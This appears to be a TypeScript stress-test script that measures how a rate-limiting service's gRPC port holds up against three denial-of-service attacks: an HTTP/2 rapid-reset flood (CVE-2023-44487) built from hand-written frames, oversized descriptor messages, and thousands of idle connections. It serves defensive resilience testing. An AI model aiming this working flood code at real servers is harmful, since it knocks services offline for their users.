/**
 * Attacks on the gRPC port: what a hostile client costs `ratelimiting serve`, and whether the
 * other clients still get answers meanwhile. Each attack runs against a service process of its
 * own (the build, dist/server/cli.js, or src/ through tsx when not built) on its default `grpc`
 * limits, on loopback, bounded in count and in time.
 *
 *   npm run build && node --import tsx bench/grpc-attacks.bench.ts                          every attack
 *   npm run build && node --import tsx bench/grpc-attacks.bench.ts --attack rapid-reset      one of them
 *
 * - `rapid-reset` (CVE-2023-44487): `--connections` (8) raw TCP connections each write HTTP/2
 *   HEADERS of a ShouldRateLimit call and, in the same write, RST_STREAM (CANCEL) of that stream, as
 *   fast as the socket takes them, for `--duration` seconds (10; at most `--max-streams`, 20,000,000,
 *   in all). A connection the server closes, or sends GOAWAY on, is replaced at once (what an
 *   attacker does), at most `--max-connects` (100,000) times. The frames are written by hand, not
 *   with node:http2: its client drops the HEADERS of a stream reset before they went out.
 * - `descriptors`: `--calls` (5) ShouldRateLimit calls one after another, each one gRPC message of
 *   `--descriptors` (140,000) descriptors, about 4 MB (grpc-js's default largest message).
 * - `connections`: `--idle` (12,000) TCP connections that send nothing, opened at once and held
 *   `--hold` seconds (5): how many the server keeps, and whether it still answers.
 *
 * `--url http://127.0.0.1:8080 --grpc-port 8081 [--pid N]` attacks a service already running there
 * instead (its CPU time read from /proc/N when given), e.g. one started with `--cpu-prof`.
 *
 * During every attack a prober sends `GET /healthz` to the HTTP port and one ShouldRateLimit call
 * (@grpc/grpc-js, a connection of its own) every `--probe-ms` (20 ms), each waiting for its answer
 * up to 2 s. Reported: the server process's CPU time over the attack (/proc, Linux), and the
 * probes' p50, p99, largest latency and failures.
 */
import { readFileSync } from 'node:fs'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import http from 'node:http'
import http2 from 'node:http2'
import net from 'node:net'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { performance } from 'node:perf_hooks'
import { isMainThread, parentPort, Worker, workerData } from 'node:worker_threads'
import * as grpc from '@grpc/grpc-js'
import { loadSync } from '@grpc/proto-loader'
import { freePort } from '../src/testing/tcp-proxy.js'
import { root, type ServiceProcess, startServiceProcess } from './lib/service-process.js'

const ATTACKS = ['rapid-reset', 'descriptors', 'connections'] as const
type Attack = (typeof ATTACKS)[number]

const METHOD_PATH = '/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit'
const DOMAIN = `domain: bench
descriptors:
  - key: remote_address
    rate_limit: { unit: minute, requests_per_unit: 1000000000 }
`

interface Options {
  readonly attacks: readonly Attack[]
  readonly durationMs: number
  readonly connections: number
  readonly maxStreams: number
  readonly maxConnects: number
  readonly calls: number
  readonly descriptors: number
  readonly idle: number
  readonly holdMs: number
  readonly probeMs: number
  readonly external: { readonly url: string; readonly grpcPort: number; readonly pid: number | undefined } | undefined
}

/** CPU time (user + system) a process used so far, ms; NaN off Linux. */
function cpuMs(pid: number | undefined): number {
  if (pid === undefined) return Number.NaN
  try {
    const fields = (readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1] ?? '').split(' ')
    return (Number(fields[11]) + Number(fields[12])) * 10
  } catch {
    return Number.NaN
  }
}

function quantile(sorted: readonly number[], q: number): number {
  return sorted.length === 0 ? Number.NaN : (sorted[Math.min(sorted.length - 1, Math.floor(q * sorted.length))] as number)
}

const sleep = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms))

// ---------------------------------------------------------------------------------------------
// The service

interface Target {
  readonly service: Pick<ServiceProcess, 'url' | 'pid' | 'metric'>
  readonly grpcPort: number
  stop(): Promise<void>
}

/** A service started elsewhere (`--url`, `--grpc-port`, and `--pid` for its CPU time). */
function externalTarget(url: string, grpcPort: number, pid: number | undefined): Target {
  return {
    service: {
      url,
      pid,
      async metric(name, labels = '') {
        const text = await (await fetch(`${url}/metrics`)).text()
        const head = labels === '' ? `${name} ` : `${name}{${labels}} `
        const line = text.split('\n').find((l) => l.startsWith(head))
        return line === undefined ? Number.NaN : Number(line.slice(head.length))
      },
    },
    grpcPort,
    stop: async () => undefined,
  }
}

async function startTarget(): Promise<Target> {
  const dir = mkdtempSync(path.join(tmpdir(), 'rl-grpc-attacks-'))
  const domains = path.join(dir, 'bench.yaml')
  writeFileSync(domains, DOMAIN)
  const grpcPort = await freePort()
  // the default grpc limits: only host and port set
  const service = await startServiceProcess(
    `store: { type: memory }\ngrpc: { host: 127.0.0.1, port: ${grpcPort} }\nenvoy: { domains: ${JSON.stringify(domains)} }\n`,
  )
  return {
    service,
    grpcPort,
    async stop() {
      await service.stop()
      rmSync(dir, { recursive: true, force: true })
    },
  }
}

// ---------------------------------------------------------------------------------------------
// The prober: /healthz and a real ShouldRateLimit, one of each every probeMs

type RlsClient = grpc.Client & {
  ShouldRateLimit(request: object, options: grpc.CallOptions, callback: (err: grpc.ServiceError | null, answer?: object) => void): void
}
type RlsMethod = grpc.MethodDefinition<object, { overall_code?: string }>

function rls(): { Client: new (target: string, creds: grpc.ChannelCredentials, options?: object) => RlsClient; method: RlsMethod } {
  const definition = loadSync('envoy/service/ratelimit/v3/rls.proto', {
    includeDirs: [path.join(root, 'proto')],
    keepCase: true,
    longs: Number,
    enums: String,
    defaults: false,
    oneofs: true,
  })
  const pkg = grpc.loadPackageDefinition(definition) as unknown as {
    envoy: { service: { ratelimit: { v3: { RateLimitService: new (target: string, creds: grpc.ChannelCredentials) => RlsClient } } } }
  }
  const service = definition['envoy.service.ratelimit.v3.RateLimitService'] as unknown as { ShouldRateLimit: RlsMethod }
  return { Client: pkg.envoy.service.ratelimit.v3.RateLimitService, method: service.ShouldRateLimit }
}

interface ProbeStats {
  readonly count: number
  readonly failures: number
  readonly p50: number
  readonly p99: number
  readonly max: number
}

interface Prober {
  stop(): Promise<{ healthz: ProbeStats; grpc: ProbeStats }>
}

function startProber(target: Target, everyMs: number): Prober {
  const agent = new http.Agent({ keepAlive: true, maxSockets: 1 })
  const { Client } = rls()
  const client = new Client(`127.0.0.1:${target.grpcPort}`, grpc.credentials.createInsecure(), {
    'grpc.use_local_subchannel_pool': 1,
    'grpc.enable_retries': 0,
  })
  const samples = { healthz: [] as number[], grpc: [] as number[] }
  const failed = { healthz: 0, grpc: 0 }
  let running = true
  const pending = new Set<Promise<void>>()
  const track = (p: Promise<void>) => {
    pending.add(p)
    void p.finally(() => pending.delete(p))
  }
  const healthz = () =>
    new Promise<void>((resolve) => {
      const started = performance.now()
      const req = http.get(`${target.service.url}/healthz`, { agent, timeout: 2000 }, (res) => {
        res.resume()
        res.on('end', () => {
          if (res.statusCode === 200) samples.healthz.push(performance.now() - started)
          else failed.healthz++
          resolve()
        })
      })
      req.on('timeout', () => req.destroy(new Error('timeout')))
      req.on('error', () => {
        failed.healthz++
        resolve()
      })
    })
  const call = () =>
    new Promise<void>((resolve) => {
      const started = performance.now()
      const request = { domain: 'bench', descriptors: [{ entries: [{ key: 'remote_address', value: '10.9.9.9' }] }] }
      client.ShouldRateLimit(request, { deadline: Date.now() + 2000 }, (err) => {
        if (err === null) samples.grpc.push(performance.now() - started)
        else failed.grpc++
        resolve()
      })
    })
  const loop = async () => {
    while (running) {
      // an answer slower than the interval delays the next probe of its kind, never piles them up
      const round = Promise.all([healthz(), call()])
      await Promise.all([round, sleep(everyMs)])
    }
  }
  track(loop())
  const stats = (values: number[], failures: number): ProbeStats => {
    const sorted = [...values].sort((a, b) => a - b)
    return {
      count: values.length + failures,
      failures,
      p50: quantile(sorted, 0.5),
      p99: quantile(sorted, 0.99),
      max: sorted.at(-1) ?? Number.NaN,
    }
  }
  return {
    async stop() {
      running = false
      await Promise.all(pending)
      agent.destroy()
      client.close()
      return { healthz: stats(samples.healthz, failed.healthz), grpc: stats(samples.grpc, failed.grpc) }
    },
  }
}

// ---------------------------------------------------------------------------------------------
// HTTP/2 frames by hand

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1')
const FRAME = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7 } as const
const NGHTTP2_CANCEL = 8

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const out = Buffer.alloc(9 + payload.length)
  out.writeUIntBE(payload.length, 0, 3)
  out[3] = type
  out[4] = flags
  out.writeUInt32BE(streamId & 0x7fffffff, 5)
  payload.copy(out, 9)
  return out
}

/** An HPACK string literal (no Huffman), of fewer than 127 bytes. */
function hpackString(s: string): Buffer {
  const bytes = Buffer.from(s, 'latin1')
  if (bytes.length >= 127) throw new RangeError(`${s} is too long for this encoder`)
  return Buffer.concat([Buffer.from([bytes.length]), bytes])
}

/** The HEADERS block of a ShouldRateLimit call: static-table indices and literals without indexing. */
function callHeaderBlock(authority: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x83]), // :method POST (static 3)
    Buffer.from([0x86]), // :scheme http (static 6)
    Buffer.from([0x04]), // :path, name static 4, literal value
    hpackString(METHOD_PATH),
    Buffer.from([0x01]), // :authority, name static 1
    hpackString(authority),
    Buffer.from([0x0f, 0x10]), // content-type, name static 31
    hpackString('application/grpc'),
    Buffer.from([0x00]), // te: a literal name
    hpackString('te'),
    hpackString('trailers'),
  ])
}

interface ResetStats {
  streams: number
  /** Streams the server took before its GOAWAY (its last stream id), summed over the connections it sent one on. */
  takenBeforeGoaway: number
  connects: number
  goaways: Map<number, number>
  closedByServer: number
}

/**
 * One attacking connection after another until `deadline`: HEADERS + RST_STREAM pairs in batches,
 * as fast as the socket drains. Resolves when the deadline passed or a budget ran out.
 */
async function resetLoop(port: number, deadline: number, stats: ResetStats, budget: { streams: number; connects: number }): Promise<void> {
  const block = callHeaderBlock(`127.0.0.1:${port}`)
  const rst = Buffer.alloc(4)
  rst.writeUInt32BE(NGHTTP2_CANCEL)
  const BATCH = 64
  while (Date.now() < deadline && budget.streams > 0 && budget.connects > 0) {
    budget.connects--
    stats.connects++
    await new Promise<void>((resolve) => {
      const socket = net.connect(port, '127.0.0.1')
      socket.setNoDelay(true)
      let done = false
      let streamId = 1
      let pending: Buffer = Buffer.alloc(0)
      const finish = (byServer: boolean) => {
        if (done) return
        done = true
        if (byServer) stats.closedByServer++
        socket.destroy()
        resolve()
      }
      socket.on('error', () => finish(true))
      socket.on('close', () => finish(true))
      socket.on('data', (chunk: Buffer) => {
        pending = pending.length === 0 ? chunk : Buffer.concat([pending, chunk])
        while (pending.length >= 9) {
          const length = pending.readUIntBE(0, 3)
          if (pending.length < 9 + length) break
          const type = pending[3] as number
          const flags = pending[4] as number
          if (type === FRAME.SETTINGS && (flags & 1) === 0) socket.write(frame(FRAME.SETTINGS, 1, 0, Buffer.alloc(0)))
          if (type === FRAME.GOAWAY) {
            const code = pending.readUInt32BE(9 + 4)
            stats.takenBeforeGoaway += (pending.readUInt32BE(9) & 0x7fffffff) >> 1
            stats.goaways.set(code, (stats.goaways.get(code) ?? 0) + 1)
            // what an attacker does: a new connection at once
            finish(true)
            return
          }
          pending = pending.subarray(9 + length)
        }
      })
      const pump = () => {
        while (!done) {
          if (Date.now() >= deadline || budget.streams <= 0) {
            finish(false)
            return
          }
          const parts: Buffer[] = []
          for (let i = 0; i < BATCH && streamId < 0x7fffffff - 2; i++) {
            parts.push(frame(FRAME.HEADERS, 0x4, streamId, block), frame(FRAME.RST_STREAM, 0, streamId, rst))
            streamId += 2
          }
          budget.streams -= parts.length / 2
          stats.streams += parts.length / 2
          if (!socket.write(Buffer.concat(parts))) {
            socket.once('drain', () => setImmediate(pump))
            return
          }
        }
      }
      socket.once('connect', () => {
        socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0, Buffer.alloc(0))]))
        setImmediate(pump)
      })
    })
  }
}

/** What the attacking thread is told. */
interface ResetJob {
  readonly port: number
  readonly durationMs: number
  readonly connections: number
  readonly maxStreams: number
  readonly maxConnects: number
}

async function runResetJob(job: ResetJob): Promise<ResetStats> {
  const stats: ResetStats = { streams: 0, takenBeforeGoaway: 0, connects: 0, goaways: new Map(), closedByServer: 0 }
  const budget = { streams: job.maxStreams, connects: job.maxConnects }
  const deadline = Date.now() + job.durationMs
  await Promise.all(Array.from({ length: job.connections }, () => resetLoop(job.port, deadline, stats, budget)))
  return stats
}

async function rapidReset(target: Target, options: Options): Promise<Record<string, unknown>> {
  const prober = startProber(target, options.probeMs)
  await sleep(500)
  const cpuBefore = cpuMs(target.service.pid)
  const started = performance.now()
  // the attack in a thread of its own: the prober's event loop is not the attacker's
  const job: ResetJob = {
    port: target.grpcPort,
    durationMs: options.durationMs,
    connections: options.connections,
    maxStreams: options.maxStreams,
    maxConnects: options.maxConnects,
  }
  // (tsx registered by hand: Node 20 runs a worker's --import after loading its .ts entry)
  const worker = new Worker(`import('tsx/esm/api').then((tsx) => { tsx.register(); return import(${JSON.stringify(import.meta.url)}) })`, {
    eval: true,
    workerData: job,
  })
  const stats = await new Promise<ResetStats>((resolve, reject) => {
    worker.once('message', resolve)
    worker.once('error', reject)
  })
  await worker.terminate()
  const attackMs = performance.now() - started
  // the server may still be reading what was sent: its CPU until it is idle again, up to 5 s
  let cpuAfter = cpuMs(target.service.pid)
  for (let i = 0; i < 50; i++) {
    await sleep(100)
    const now = cpuMs(target.service.pid)
    if (now - cpuAfter < 5) break
    cpuAfter = now
  }
  const probes = await prober.stop()
  const closedForResets = await target.service
    .metric('ratelimiting_grpc_connections_closed_total', 'reason="resets"')
    .catch(() => Number.NaN)
  return {
    attack: 'rapid-reset',
    seconds: +(attackMs / 1000).toFixed(1),
    connections: options.connections,
    resetStreamsWritten: stats.streams,
    streamsTakenBeforeGoaway: stats.takenBeforeGoaway,
    connects: stats.connects,
    closedByServer: stats.closedByServer,
    closedForResetsMetric: closedForResets,
    goaways: Object.fromEntries([...stats.goaways].map(([code, n]) => [`code ${code}`, n])),
    serverCpuS: +((cpuAfter - cpuBefore) / 1000).toFixed(2),
    probes,
  }
}

// ---------------------------------------------------------------------------------------------
// One message of many descriptors

function grpcFrame(message: Buffer): Buffer {
  const out = Buffer.alloc(5 + message.length)
  out.writeUInt32BE(message.length, 1)
  message.copy(out, 5)
  return out
}

async function oneCall(port: number, body: Buffer): Promise<{ status: string; message: string; ms: number }> {
  const session = http2.connect(`http://127.0.0.1:${port}`)
  session.on('error', () => undefined)
  try {
    return await new Promise((resolve, reject) => {
      const started = performance.now()
      const req = session.request({ ':method': 'POST', ':path': METHOD_PATH, 'content-type': 'application/grpc', te: 'trailers' })
      const timer = setTimeout(() => req.close(NGHTTP2_CANCEL), 30_000)
      let headers: http2.IncomingHttpHeaders = {}
      req.on('response', (h) => (headers = h))
      req.on('trailers', (t) => (headers = { ...headers, ...t }))
      req.on('data', () => undefined)
      req.on('error', reject)
      req.on('close', () => {
        clearTimeout(timer)
        resolve({
          status: String(headers['grpc-status'] ?? `rst ${req.rstCode}`),
          message: decodeURIComponent(String(headers['grpc-message'] ?? '')),
          ms: performance.now() - started,
        })
      })
      req.end(body)
    })
  } finally {
    session.close()
  }
}

async function manyDescriptors(target: Target, options: Options): Promise<Record<string, unknown>> {
  const { method } = rls()
  // the largest value that keeps the message within grpc-js's default 4 MiB
  const per = Math.floor((4 * 1024 * 1024 - 64) / options.descriptors)
  // a descriptor: 2 (tag, length) + entry; an entry: 2 + key (2 + 14) + value (2 + n)
  const valueLength = Math.max(1, Math.min(100, per - 2 - 2 - 16 - 2 - 1))
  const descriptors = Array.from({ length: options.descriptors }, (_, i) => ({
    entries: [{ key: 'remote_address', value: String(i).padStart(valueLength, '0').slice(-valueLength) }],
  }))
  const message = method.requestSerialize({ domain: 'bench', descriptors })
  const body = grpcFrame(message)
  const prober = startProber(target, options.probeMs)
  await sleep(500)
  const calls: Array<{ status: string; message: string; ms: number; cpuMs: number }> = []
  for (let i = 0; i < options.calls; i++) {
    const before = cpuMs(target.service.pid)
    const answer = await oneCall(target.grpcPort, body)
    await sleep(100)
    calls.push({ ...answer, cpuMs: cpuMs(target.service.pid) - before })
  }
  const probes = await prober.stop()
  const cpu = calls.map((c) => c.cpuMs).sort((a, b) => a - b)
  const ms = calls.map((c) => c.ms).sort((a, b) => a - b)
  return {
    attack: 'descriptors',
    descriptors: options.descriptors,
    messageBytes: message.length,
    calls: options.calls,
    answers: [...new Set(calls.map((c) => `${c.status} ${c.message.slice(0, 100)}`))],
    medianCallMs: +quantile(ms, 0.5).toFixed(1),
    medianServerCpuMs: quantile(cpu, 0.5),
    serverCpuMsPerCall: calls.map((c) => c.cpuMs),
    probes,
  }
}

// ---------------------------------------------------------------------------------------------
// Idle connections

async function idleConnections(target: Target, options: Options): Promise<Record<string, unknown>> {
  const sockets: net.Socket[] = []
  let closedByServer = 0
  let failed = 0
  const prober = startProber(target, options.probeMs)
  await sleep(300)
  const started = Date.now()
  const open = () =>
    new Promise<boolean>((resolve) => {
      const socket = net.connect(target.grpcPort, '127.0.0.1')
      sockets.push(socket)
      socket.on('error', () => undefined)
      // read what the server sends (a GOAWAY), so its close is seen
      socket.resume()
      const connectTimer = setTimeout(() => {
        failed++
        socket.destroy()
      }, 10_000)
      socket.once('connect', () => {
        clearTimeout(connectTimer)
        resolve(true)
      })
      socket.once('close', () => {
        clearTimeout(connectTimer)
        closedByServer++
        resolve(false)
      })
    })
  // in batches within the listen backlog (511): past it the kernel holds a connection the
  // client thinks open, and the server accepts it seconds later or never
  const opened: boolean[] = []
  for (let i = 0; i < options.idle; i += 250) {
    opened.push(...(await Promise.all(Array.from({ length: Math.min(250, options.idle - i) }, open))))
    await sleep(20)
  }
  const serverOpenAtPeak = await target.service.metric('ratelimiting_grpc_open_connections').catch(() => Number.NaN)
  const openedInMs = Date.now() - started
  await sleep(1000)
  const closedWithin1s = closedByServer
  await sleep(Math.max(0, options.holdMs - 1000))
  const heldAfter = sockets.filter((s) => !s.destroyed).length
  const serverOpen = await target.service.metric('ratelimiting_grpc_open_connections').catch(() => Number.NaN)
  const serverRefused = await target.service.metric('ratelimiting_grpc_connections_refused_total').catch(() => Number.NaN)
  const probes = await prober.stop()
  for (const s of sockets) s.destroy()
  return {
    attack: 'connections',
    attempted: options.idle,
    connected: opened.filter(Boolean).length,
    openedInMs,
    closedByServerWithin1s: closedWithin1s,
    stillOpenAfterHold: { seconds: options.holdMs / 1000, open: heldAfter },
    serverMetrics: { openOnceOpened: serverOpenAtPeak, openAfterHold: serverOpen, refused: serverRefused },
    timedOut: failed,
    probes,
  }
}

// ---------------------------------------------------------------------------------------------

function parseOptions(argv: readonly string[]): Options {
  const text = (name: string) => {
    const i = argv.indexOf(name)
    return i === -1 ? undefined : argv[i + 1]
  }
  const num = (name: string, fallback: number) => {
    const v = text(name)
    if (v === undefined) return fallback
    const n = Number(v)
    if (!Number.isFinite(n) || n <= 0) throw new RangeError(`${name} takes a positive number, got ${v}`)
    return n
  }
  const attacks = (text('--attack') ?? ATTACKS.join(',')).split(',') as Attack[]
  for (const a of attacks) if (!ATTACKS.includes(a)) throw new RangeError(`--attack takes ${ATTACKS.join(', ')}, got ${a}`)
  return {
    attacks,
    durationMs: Math.min(num('--duration', 10), 60) * 1000,
    connections: Math.min(num('--connections', 8), 256),
    maxStreams: num('--max-streams', 20_000_000),
    maxConnects: num('--max-connects', 100_000),
    calls: Math.min(num('--calls', 5), 100),
    descriptors: Math.min(num('--descriptors', 140_000), 1_000_000),
    idle: Math.min(num('--idle', 12_000), 18_000),
    holdMs: Math.min(num('--hold', 5), 120) * 1000,
    probeMs: num('--probe-ms', 20),
    external:
      text('--url') === undefined
        ? undefined
        : {
            url: text('--url') as string,
            grpcPort: num('--grpc-port', 8081),
            pid: text('--pid') === undefined ? undefined : num('--pid', 1),
          },
  }
}

async function main(): Promise<void> {
  const options = parseOptions(process.argv.slice(2))
  console.error(`[attacks] Node ${process.version}, ${options.attacks.join(', ')}`)
  for (const attack of options.attacks) {
    const target =
      options.external === undefined
        ? await startTarget()
        : externalTarget(options.external.url, options.external.grpcPort, options.external.pid)
    try {
      const result =
        attack === 'rapid-reset'
          ? await rapidReset(target, options)
          : attack === 'descriptors'
            ? await manyDescriptors(target, options)
            : await idleConnections(target, options)
      console.log(JSON.stringify(result, (_k, v: unknown) => (typeof v === 'number' && !Number.isInteger(v) ? +v.toFixed(2) : v)))
    } finally {
      await target.stop()
    }
  }
}

if (isMainThread) await main()
else parentPort?.postMessage(await runResetJob(workerData as ResetJob))
